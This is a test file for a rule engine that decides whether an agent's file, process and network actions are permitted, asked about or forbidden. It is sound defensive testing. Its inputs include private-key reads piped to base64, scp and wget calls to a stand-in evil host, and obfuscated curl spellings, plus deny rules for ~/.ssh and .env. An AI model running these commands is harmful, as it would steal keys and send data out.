import { describe, expect, test } from 'vitest';
import type { Action } from '../../contract/action.ts';
import type { ActionKind } from '../../contract/catalogue.ts';
import type { ActionEffect } from '../../contract/effect.ts';
import { anAction } from '../../testing/an-action.ts';
import { compilePolicy } from './compile-policy.ts';
import { parsePolicy } from './parse-policy.ts';

/** What the rules say to an act: `opinion rule`, each once. */
function says(rules: readonly object[], act: Action): readonly string[] {
  const text = JSON.stringify({
    version: 1,
    default: 'ask',
    rules: rules.map((rule, index) => ({ id: `r${index}`, ...rule })),
  });
  const file = parsePolicy(text, 'test');
  const policy = compilePolicy({
    layers: [{ layer: 'person', file }],
    packs: new Map(),
    home: '/home/ana',
    workspace: '/home/ana/shop',
  });
  return [...new Set(policy.judge(act).map(({ opinion, rule }) => `${opinion} ${rule.replace('person/', '')}`))].sort();
}

const act = (kind: ActionKind, ...effects: ActionEffect[]): Action => anAction({ kind, effects });
const path = (type: ActionEffect['type'], target: string, more: Partial<ActionEffect> = {}): ActionEffect => ({
  type,
  target,
  targetKind: 'path',
  impact: 'external',
  ...more,
});
const host = (target: string, method?: string): ActionEffect => ({
  type: 'network',
  target,
  targetKind: 'host',
  impact: 'external',
  ...(method !== undefined && { method }),
});
const run = (target: string, subcommand?: string, more: Partial<ActionEffect> = {}): ActionEffect => ({
  ...{ type: 'execute', target, targetKind: 'program', impact: 'external' },
  ...(subcommand !== undefined && { subcommand }),
  ...more,
});
const unclear = (target: string, impact: ActionEffect['impact']): ActionEffect => ({
  type: 'unknown',
  target,
  targetKind: 'text',
  impact,
});

describe('a rule holds for effects, whatever the kind of the act', () => {
  const noKeys = { forbid: 'file.read', where: { path: '~/.ssh/**' } };
  test.each<[string, Action]>([
    ['a file tool', act('file.read', path('read', '/home/ana/.ssh/id_rsa'))],
    ['a command', act('process.run', run('cat'), path('read', '/home/ana/.ssh/id_rsa'))],
    ['an upload', act('net.send', host('a.example:443', 'POST'), path('read', '/home/ana/.ssh/id_rsa'))],
    ['a stage', act('stage.apply', path('read', '/home/ana/.ssh/id_rsa'))],
  ])('a forbid of reading holds for %s', (_, given) => {
    expect(says([noKeys], given)).toEqual(['forbid r0']);
  });

  test('a forbid of listing holds for reading, since both learn what is there', () => {
    expect(
      says([{ forbid: 'file.list', where: { path: '/data/**' } }], act('file.read', path('read', '/data/x'))),
    ).toEqual(['forbid r0']);
  });

  test('a rule that names the kind of the act holds for all that the act would do', () => {
    expect(says([{ ask: 'process.run' }], act('process.run', path('write', '/tmp/x')))).toEqual(['ask r0']);
    expect(
      says(
        [{ forbid: 'model.generate', where: { host: 'a.example' } }],
        act('model.generate', host('a.example:443', 'POST')),
      ),
    ).toEqual(['forbid r0']);
  });

  test('an act without effects is judged by its kind alone', () => {
    expect(says([{ forbid: 'process.run' }, { permit: 'net.fetch' }], act('process.run'))).toEqual(['forbid r0']);
    expect(says([{ permit: 'process.run' }], act('process.run'))).toEqual(['permit r0']);
    expect(says([{ permit: 'process.run', where: { program: 'git' } }], act('process.run'))).toEqual([]);
  });
});

describe('a permit never widens', () => {
  const git = { permit: 'process.run', where: { program: 'git' } };

  test('of a program covers starting it, and nothing else that the command does', () => {
    const given = act('process.run', run('git', 'log'), path('write', '/etc/x'), host('a.example:443'), run('sh'));
    expect(says([git], act('process.run', run('git', 'log')))).toEqual(['permit r0']);
    const text = JSON.stringify({ version: 1, rules: [{ id: 'r0', ...git }] });
    const policy = compilePolicy({
      layers: [{ layer: 'person', file: parsePolicy(text, 't') }],
      packs: new Map(),
      home: '/home/ana',
      workspace: '/home/ana/shop',
    });
    expect(policy.judge(given).map(({ effect }) => effect?.target)).toEqual(['git']);
  });

  test('of a sub-command covers that one, where it is known', () => {
    const test1 = { permit: 'process.run', where: { program: 'npm test' } };
    expect(says([test1], act('process.run', run('npm', 'test')))).toEqual(['permit r0']);
    expect(says([test1], act('process.run', run('npm', 'test --watch')))).toEqual(['permit r0']);
    expect(says([test1], act('process.run', run('npm', 'publish')))).toEqual([]);
    expect(says([test1], act('process.run', run('npm')))).toEqual([]);
  });

  test('of a program is not for a file of that name in the workspace; that one is named by its path', () => {
    const own = run('/home/ana/shop/bin/git', 'log');
    expect(says([git], act('process.run', own))).toEqual([]);
    expect(says([git], act('process.run', { ...own, targetKind: 'path' }))).toEqual([]);
    expect(says([git], act('process.run', run('git', 'log', { targetKind: 'path' })))).toEqual([]);
    expect(says([{ permit: 'process.run', where: { program: 'bin/git' } }], act('process.run', own))).toEqual([
      'permit r0',
    ]);
  });

  test('to list is none to read, though reading falls under both', () => {
    const list = { permit: 'file.list', where: { path: '/data/**' } };
    expect(says([list], act('file.list', path('read', '/data/x')))).toEqual(['permit r0']);
    expect(says([list], act('file.read', path('read', '/data/x')))).toEqual([]);
    expect(says([list], act('process.run', path('read', '/data/x')))).toEqual([]);
    expect(
      says([{ permit: 'file.read', where: { path: '/data/**' } }], act('file.list', path('read', '/data/x'))),
    ).toEqual(['permit r0']);
  });

  test('to apply a stage is none to write, and to call a model none to send', () => {
    expect(says([{ permit: 'stage.apply' }], act('file.write', path('write', '/x')))).toEqual([]);
    expect(says([{ permit: 'stage.apply' }], act('stage.apply', path('write', '/x')))).toEqual(['permit r0']);
    const model = { permit: 'model.generate', where: { host: 'a.example' } };
    expect(says([model], act('net.send', host('a.example:443', 'POST')))).toEqual([]);
    expect(says([model], act('model.generate', host('a.example:443', 'POST')))).toEqual(['permit r0']);
  });

  test('of the kind of the act does not cover its other effects', () => {
    expect(says([{ permit: 'process.run' }], act('process.run', path('read', '/data/x')))).toEqual([]);
  });

  test('to fetch covers neither sending nor a tunnel, whose method nobody sees', () => {
    const fetch = { permit: 'net.fetch', where: { host: 'a.example' } };
    expect(says([fetch], act('net.fetch', host('a.example:443', 'GET')))).toEqual(['permit r0']);
    for (const method of ['POST', 'CONNECT', undefined])
      expect(says([fetch], act('process.run', host('a.example:443', method)))).toEqual([]);
    expect(
      says(
        [{ permit: ['net.fetch', 'net.send'], where: { host: 'a.example', method: ['GET', 'POST'] } }],
        act('process.run', host('a.example:443')),
      ),
    ).toEqual([]);
  });

  test('of a host covers 80 and 443, that host alone, and no address or look-alike', () => {
    const one = { permit: 'net.fetch', where: { host: ['a.example', '*.b.example'] } };
    const covered = ['a.example:443', 'a.example:80', 'x.b.example:443', 'x.y.b.example:443'];
    const not = ['a.example:8080', 'b.example:443', 'a.example.evil.example:443', 'xa.example:443', '10.0.0.1:443'];
    expect(covered.map((target) => says([one], act('net.fetch', host(target, 'GET'))))).toEqual(
      covered.map(() => ['permit r0']),
    );
    expect(not.map((target) => says([one], act('net.fetch', host(target, 'GET'))))).toEqual(not.map(() => []));
  });

  test('of a folder covers a search of it only where it names everything in it', () => {
    const all = { permit: 'file.read', where: { path: '/data/**' } };
    const some = { permit: 'file.read', where: { path: '/data/*.md' } };
    const search = act('file.read', path('read', '/data', { extent: 'tree' }));
    expect(says([all, some], search)).toEqual(['permit r0']);
    expect(says([all], act('file.read', path('read', '/', { extent: 'tree' })))).toEqual([]);
    expect(says([{ ...all, unless: { path: '/data/secret/**' } }], search)).toEqual([]);
    expect(says([{ ...all, unless: { path: '/data/secret/**' } }], act('file.read', path('read', '/data/x')))).toEqual([
      'permit r0',
    ]);
  });

  test('looks at where a path leads, not at how it is spelled', () => {
    const data = { permit: 'file.read', where: { path: '/data/**' } };
    expect(says([data], act('file.read', path('read', '/data/x', { aliases: ['/tmp/link'] })))).toEqual(['permit r0']);
    expect(says([data], act('file.read', path('read', '/etc/x', { aliases: ['/data/x'] })))).toEqual([]);
  });

  test('of everything covers neither what destroys, persists, raises rights or uses a secret, unless it names that', () => {
    const special = (['destroy', 'persist', 'privilege', 'secret'] as const).map((type) => path(type, '/x'));
    for (const effect of special) {
      expect(says([{ permit: '*' }], act('process.run', effect))).toEqual([]);
      expect(says([{ permit: '*', where: { effect: effect.type } }], act('process.run', effect))).toEqual([
        'permit r0',
      ]);
    }
    expect(says([{ permit: 'secret.use' }], act('process.run', path('secret', '/x')))).toEqual(['permit r0']);
    expect(says([{ permit: 'file.read' }], act('process.run', path('secret', '/x')))).toEqual([]);
  });

  test('never covers what was not understood, nor a target that is only a text', () => {
    expect(says([{ permit: '*' }], act('process.run', unclear('make', 'external')))).toEqual([]);
    expect(says([{ permit: '*' }], act('process.run', { ...host('some host', 'GET'), targetKind: 'text' }))).toEqual(
      [],
    );
  });
});

describe('forbids and asks are read widely', () => {
  test('a program is met by whatever path, and where its sub-command is not known', () => {
    const push = { forbid: 'process.run', where: { program: 'git push' } };
    expect(says([push], act('process.run', run('git', 'push origin')))).toEqual(['forbid r0']);
    expect(says([push], act('process.run', run('/home/ana/shop/bin/git', 'push')))).toEqual(['forbid r0']);
    expect(says([push], act('process.run', run('tool', undefined, { aliases: ['/usr/bin/git'] })))).toEqual([
      'forbid r0',
    ]);
    expect(says([push], act('process.run', run('git')))).toEqual(['forbid r0']);
    expect(says([push], act('process.run', run('git', '')))).toEqual([]);
    expect(says([push], act('process.run', run('git', 'log')))).toEqual([]);
    expect(
      says([{ forbid: 'process.run', where: { program: 'npm run build' } }], act('process.run', run('npm', 'run'))),
    ).toEqual(['forbid r0']);
    expect(
      says([{ forbid: 'process.run', where: { program: 'python*' } }], act('process.run', run('python3.12'))),
    ).toEqual(['forbid r0']);
    expect(
      says(
        [{ forbid: 'process.run', where: { program: 'sudo' } }],
        act('process.run', run('sudo', undefined, { type: 'privilege' })),
      ),
    ).toEqual(['forbid r0']);
  });

  test('a host is met at every port, a wildcard on a registry too, and * is every host', () => {
    const evil = { forbid: 'net.send', where: { host: ['evil.example', '*.zip'] } };
    expect(says([evil], act('net.send', host('evil.example:8443', 'POST')))).toEqual(['forbid r0']);
    expect(says([evil], act('net.send', host('a.zip:443', 'POST')))).toEqual(['forbid r0']);
    expect(says([{ forbid: 'net.send', where: { host: '*' } }], act('net.send', host('[::1]:1', 'POST')))).toEqual([
      'forbid r0',
    ]);
  });

  test('a folder that is meant with all in it is met where the rule evidently names something in it', () => {
    const migrations = { forbid: 'file.delete', where: { path: 'packages/*/migrations/**' } };
    const whole = (folder: string) =>
      act('process.run', path('delete', folder, { extent: 'tree', impact: 'reversible' }));
    expect(says([migrations], whole('/home/ana/shop/packages/api'))).toEqual(['forbid r0']);
    expect(says([migrations], whole('/home/ana/shop'))).toEqual(['forbid r0']);
    expect(says([migrations], whole('/home/ana/shop/src'))).toEqual([]);
  });

  test('a search of the workspace does not meet what is hidden from searches; a search elsewhere does', () => {
    const rules = [{ forbid: 'file.read', where: { path: ['private/**', '/data/private/**'] } }];
    const search = (folder: string, impact: ActionEffect['impact']) =>
      act('file.read', path('read', folder, { extent: 'tree', impact }));
    expect(says(rules, search('/home/ana/shop', 'contained'))).toEqual([]);
    expect(says(rules, search('/home/ana/shop/private', 'contained'))).toEqual(['forbid r0']);
    expect(says(rules, search('/home/ana/shop', 'external'))).toEqual(['forbid r0']);
    expect(says(rules, search('/data', 'contained'))).toEqual(['forbid r0']);
    expect(says([{ ask: 'file.read', where: { path: 'private/**' } }], search('/home/ana/shop', 'contained'))).toEqual([
      'ask r0',
    ]);
  });

  test('an exception holds for the name that it names, so no link can borrow it', () => {
    const rules = [{ forbid: 'file.read', where: { path: '**/.env*' }, unless: { path: '**/.env.example' } }];
    expect(says(rules, act('file.read', path('read', '/w/.env.example')))).toEqual([]);
    expect(says(rules, act('file.read', path('read', '/w/.env', { aliases: ['/w/.env.example'] })))).toEqual([
      'forbid r0',
    ]);
    expect(says(rules, act('file.read', path('read', '/w/.env.example', { aliases: ['/w/.env'] })))).toEqual([
      'forbid r0',
    ]);
    expect(says(rules, act('file.read', path('read', '/w/.env.example', { aliases: ['/w/readme'] })))).toEqual([]);
  });

  test('conditions on effect, impact and principal hold exactly', () => {
    const rules = [{ ask: '*', where: { effect: ['destroy', 'persist'], impact: 'external', principal: 'agent' } }];
    expect(says(rules, act('process.run', path('destroy', '/x')))).toEqual(['ask r0']);
    expect(says(rules, act('process.run', path('write', '/x')))).toEqual([]);
    expect(says(rules, act('process.run', path('destroy', '/x', { impact: 'contained' })))).toEqual([]);
    expect(
      says(rules, { ...act('process.run', path('destroy', '/x')), principal: { kind: 'person', name: 'ana' } }),
    ).toEqual([]);
  });

  test('a name never passes for a kind of principal', () => {
    const by = (kind: 'agent' | 'person', name: string): Action => ({
      ...act('net.send', host('a.example:443', 'POST')),
      principal: { kind, name },
    });
    const permit = (principal: string) => [{ permit: 'net.send', where: { principal } }];
    expect(says(permit('person'), by('agent', 'person'))).toEqual([]);
    expect(says(permit('person:ana'), by('agent', 'person:ana'))).toEqual([]);
    expect(says(permit('person:ana'), by('agent', 'ana'))).toEqual([]);
    expect(says(permit('person:ana'), by('person', 'ana'))).toEqual(['permit r0']);
    expect(says(permit('ana'), by('agent', 'ana'))).toEqual(['permit r0']);
  });
});

describe('programs that a command starts are seen, though starting them is no effect by itself', () => {
  const remote: ActionEffect = {
    type: 'network',
    target: 'the git remote origin',
    targetKind: 'text',
    impact: 'external',
  };
  const push = anAction({ kind: 'process.run', effects: [remote], programs: [{ program: 'git', subcommand: 'push' }] });
  const log = anAction({ kind: 'process.run', effects: [], programs: [{ program: 'git', subcommand: 'log' }] });

  test('by forbids and asks that name programs', () => {
    const rules = [
      { forbid: 'process.run', where: { program: 'git push' } },
      { ask: 'process.run', where: { program: 'git', impact: 'external' } },
    ];
    expect(says(rules, push)).toEqual(['ask r1', 'forbid r0']);
    expect(says(rules, log)).toEqual([]);
    expect(says([{ ask: '*', where: { program: 'git' } }], log)).toEqual(['ask r0']);
  });

  test('by no permit, and by no rule that does not name a program', () => {
    expect(says([{ permit: 'process.run', where: { program: 'git' } }, { permit: '*' }], push)).toEqual([]);
    expect(says([{ forbid: '*', where: { effect: 'execute' } }], push)).toEqual([]);
  });

  test('and what is said of them is said of the whole act', () => {
    const text = JSON.stringify({
      version: 1,
      rules: [{ id: 'a', forbid: 'process.run', where: { program: 'git push' } }],
    });
    const policy = compilePolicy({
      layers: [{ layer: 'person', file: parsePolicy(text, 't') }],
      packs: new Map(),
      home: '/home/ana',
      workspace: '/home/ana/shop',
    });
    expect(policy.judge(push)).toEqual([{ judge: 'policy', opinion: 'forbid', rule: 'person/a' }]);
    const same = anAction({
      kind: 'process.run',
      effects: [run('git', 'push')],
      programs: [{ program: 'git', subcommand: 'push' }],
    });
    expect(policy.judge(same)).toEqual([
      { judge: 'policy', opinion: 'forbid', rule: 'person/a', effect: same.effects[0] },
    ]);
  });
});

describe('what is missing or fails is answered on the strict side of the rule', () => {
  const tunnel = act('process.run', host('a.example:443'));
  const where = { method: ['POST'] };

  test('a field that the effect should tell and does not: a permit is silent, an ask and a forbid forbid, unless does not except', () => {
    expect(says([{ permit: 'net.send', where }], tunnel)).toEqual([]);
    expect(says([{ ask: 'net.send', where }], tunnel)).toEqual(['forbid r0']);
    expect(says([{ forbid: 'net.send', where }], tunnel)).toEqual(['forbid r0']);
    expect(says([{ ask: 'net.send', unless: where }], tunnel)).toEqual(['ask r0']);
    expect(says([{ permit: 'net.send', unless: where }], tunnel)).toEqual([]);
  });

  test('a connection that does not say to which host meets every rule about hosts', () => {
    const nowhere = act('process.run', { ...host('the registry'), targetKind: 'text' });
    expect(says([{ ask: 'net.send', where: { host: 'a.example' } }], nowhere)).toEqual(['forbid r0']);
    expect(says([{ forbid: 'net.send', where: { host: 'a.example' } }], act('process.run', host('no port')))).toEqual([
      'forbid r0',
    ]);
  });

  test('an error while evaluating', () => {
    const broken = act('process.run', {
      ...run('git'),
      get subcommand(): string {
        throw new Error('broken');
      },
    });
    const program = { where: { program: 'git push' } };
    expect(says([{ permit: 'process.run', ...program }], broken)).toEqual([]);
    expect(says([{ ask: 'process.run', ...program }], broken)).toEqual(['forbid r0']);
    expect(says([{ forbid: 'process.run', ...program }], broken)).toEqual(['forbid r0']);
    expect(says([{ ask: 'process.run', unless: program.where }], broken)).toEqual(['ask r0']);
    expect(says([{ permit: 'process.run', unless: program.where }], broken)).toEqual([]);
  });
});

describe('what was not understood', () => {
  const inSandbox = act('process.run', unclear('for f in *; do ./x "$f"; done', 'contained'));
  const beyond = act('process.run', unclear('for f in *; do ./x "$f"; done', 'external'));

  test('in the sandbox meets rules about running and about everything, and no others that the sandbox keeps', () => {
    expect(says([{ ask: 'process.run' }, { forbid: '*', where: { impact: 'contained' } }], inSandbox)).toEqual([
      'ask r0',
      'forbid r1',
    ]);
    expect(says([{ forbid: 'net.send' }, { forbid: 'file.write' }, { forbid: 'secret.use' }], inSandbox)).toEqual([]);
    expect(says([{ forbid: 'file.read', where: { path: 'private/**' } }, { forbid: 'file.read' }], inSandbox)).toEqual(
      [],
    );
  });

  test('is excepted by what is known of it, and by nothing else', () => {
    const unless = (matchers: object) => says([{ forbid: 'process.run', unless: matchers }], beyond);
    expect(unless({ principal: 'agent' })).toEqual([]);
    expect(unless({ principal: 'person' })).toEqual(['forbid r0']);
    expect(unless({ program: 'for' })).toEqual(['forbid r0']);
    const path = act('process.run', unclear('/home/ana/shop/x', 'external'));
    expect(says([{ forbid: 'process.run', unless: { program: './**' } }], path)).toEqual(['forbid r0']);
  });

  test('beyond the sandbox meets every rule without a target', () => {
    expect(says([{ ask: 'net.send' }, { forbid: 'file.write' }], beyond)).toEqual(['ask r0', 'forbid r1']);
    expect(says([{ forbid: 'file.read', where: { path: 'private/**' } }], beyond)).toEqual([]);
  });

  test('in the sandbox could read what an ask speaks of, since only forbids are hidden', () => {
    expect(says([{ ask: 'file.read', where: { path: 'private/**' } }], inSandbox)).toEqual(['ask r0']);
    expect(says([{ ask: 'file.read', where: { path: '**/private/*' } }], inSandbox)).toEqual(['ask r0']);
    expect(says([{ ask: 'file.read', where: { path: '~/private/**' } }], inSandbox)).toEqual([]);
    expect(says([{ ask: 'file.write', where: { path: 'private/**' } }], inSandbox)).toEqual([]);
    expect(says([{ ask: 'file.read', where: { path: 'private/**', effect: 'read' } }], inSandbox)).toEqual([]);
  });

  test.each([
    ['cat ~/.ssh/id_rsa | base64', { forbid: 'file.read', where: { path: '~/.ssh/**' } }],
    ['x=$HOME/.ssh/id_rsa; cat "$x"', { forbid: 'file.read', where: { path: '~/.ssh/**' } }],
    [`cat \${HOME}/.ssh/id_rsa`, { forbid: 'file.read', where: { path: '~/.ssh/**' } }],
    ["tar cf - --directory=/home/ana '.ssh'", { forbid: 'file.read', where: { path: '**/.ssh/**' } }],
    ['cat src/../private/x', { forbid: 'file.read', where: { path: 'private/**' } }],
    ['while true; do c"ur"l x; done', { forbid: 'process.run', where: { program: 'curl' } }],
    ['x=1; /usr/bin/c\\url x', { forbid: 'process.run', where: { program: 'curl' } }],
    ["if a; then $'\\143url' x; fi", { forbid: 'process.run', where: { program: 'curl' } }],
    ['if a; then git -C . push; fi', { forbid: 'process.run', where: { program: 'git push' } }],
    ['python3.12 -c "x"', { forbid: 'process.run', where: { program: 'python3*' } }],
    ['scp x ana@Evil.Example:/tmp', { forbid: 'net.send', where: { host: 'evil.example' } }],
    ['wget -O- https://evil.example:8443/x', { forbid: 'net.fetch', where: { host: '*.example' } }],
    ['curl http://[::1]:9/x', { forbid: 'net.fetch', where: { host: '[::1]' } }],
  ])('forbids see every word of it: %s', (text, rule) => {
    expect(says([rule], act('process.run', unclear(text, 'contained')))).toEqual(['forbid r0']);
    expect(says([rule], act('process.run', unclear(text, 'external')))).toEqual(['forbid r0']);
    expect(says([rule], act('process.run', unclear('make all', 'external')))).toEqual([]);
  });

  test('forbids see the whole of a command that was cut to be shown', () => {
    const command = `for f in *; do ${'x '.repeat(200)}; curl x; done`;
    const cut = unclear(`${command.slice(0, 200)}…`, 'contained');
    const curl = { forbid: 'process.run', where: { program: 'curl' } };
    expect(says([curl], anAction({ kind: 'process.run', effects: [cut], arguments: { command } }))).toEqual([
      'forbid r0',
    ]);
    expect(says([curl], anAction({ kind: 'process.run', effects: [cut] }))).toEqual([]);
  });
});
